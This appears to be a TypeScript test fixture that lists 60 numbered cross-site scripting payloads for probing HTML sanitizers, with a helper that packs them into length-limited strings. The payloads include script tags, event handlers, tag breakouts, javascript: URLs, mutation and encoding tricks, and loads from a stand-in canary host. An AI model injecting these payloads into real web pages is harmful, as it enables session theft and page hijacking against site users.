/** The host that payloads load from or lead to. */
export const CANARY_HOST = "canary.example";

/** Payloads that call the global function `xss`, lead to the canary host or load from it. */
const TEMPLATES: readonly string[] = [
  // Elements that run by themselves.
  "<script>xss()</script>",
  "<SCRIPT>xss()</SCRIPT >",
  "<script src=//canary.example/a.js></script>",
  "<script type=module>xss()</script>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<script/x>xss()</script>",
  "<iframe srcdoc='<script>parent.xss()</script>'>",
  "<iframe src=javascript:parent.xss()>",
  "<object data=javascript:xss()>",
  "<embed src=//canary.example/a.swf>",
  "<base href=//canary.example/>",
  "<meta http-equiv=refresh content=0;url=//canary.example/>",
  "<link rel=stylesheet href=//canary.example/a.css>",
  "<template><script>xss()</script></template>",
  // Event handlers.
  "<img src=x onerror=xss()>",
  "<img/src=x/onerror=xss()>",
  "<IMG SRC=x OnErRoR=xss()>",
  "<img src=x onerror=&#120;ss()>",
  "<img src=x onerror='xss()'//",
  "<svg onload=xss()>",
  "<svg/onload=xss()//",
  "<svg><script>xss()</script></svg>",
  "<svg><script>&#120;ss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  "<body onload=xss()>",
  "<video src=x onerror=xss()></video>",
  "<audio src=x onerror=xss()>",
  "<video><source onerror=xss()></video>",
  "<details open ontoggle=xss()>x",
  "<input autofocus onfocus=xss()>",
  "<select autofocus onfocus=xss()>",
  "<marquee onstart=xss()>x</marquee>",
  "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=xss()>",
  // Ends of an attribute, an element or a script.
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '" onmouseover=xss() autofocus onfocus=xss() x="',
  "' autofocus onfocus=xss() x='",
  "` onfocus=xss() autofocus x=`",
  "</title><script>xss()</script>",
  "</textarea><script>xss()</script>",
  "</script><script>xss()</script>",
  "</style><script>xss()</script>",
  "--><script>xss()</script>",
  "]]><script>xss()</script>",
  '"}</script><img src=x onerror=xss()>',
  '";xss();//',
  "';xss();//",
  "\\u003cimg src=x onerror=xss()\\u003e",
  "${xss()}{{constructor.constructor('xss()')()}}",
  // Addresses.
  "javascript:xss()",
  "JaVaScRiPt:xss()//",
  "<a href=javascript:xss()>x</a>",
  "[x](javascript:xss())",
  "![x](//canary.example/a.png)",
  "data:text/html,<script>xss()</script>",
  // Markup that a parser changes when it is parsed twice, and other encodings.
  "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
  "&lt;img src=x onerror=xss()&gt;",
  "%3Cimg%20src=x%20onerror=xss()%3E",
  "\uff1cimg src=x onerror=xss()\uff1e<img src=x onerror\u200b=xss()>",
];

/** Numbered texts, 60 in all, that run a script where a page shows them as markup. */
export const SCRIPT_PAYLOADS: readonly string[] = TEMPLATES.map((template, index) =>
  template.replaceAll("xss()", `xss(${index + 1})`),
);

/**
 * Packs the payloads into as few texts of the length as possible; those that are longer are left
 * out.
 */
export function packPayloads(maxLength: number, separator = " "): string[] {
  const packed: string[] = [];
  for (const payload of SCRIPT_PAYLOADS.filter(({ length }) => length <= maxLength)) {
    const joined = [packed.at(-1) ?? [], payload].flat().join(separator);
    if (packed.length > 0 && joined.length <= maxLength) packed[packed.length - 1] = joined;
    else packed.push(payload);
  }
  return packed;
}
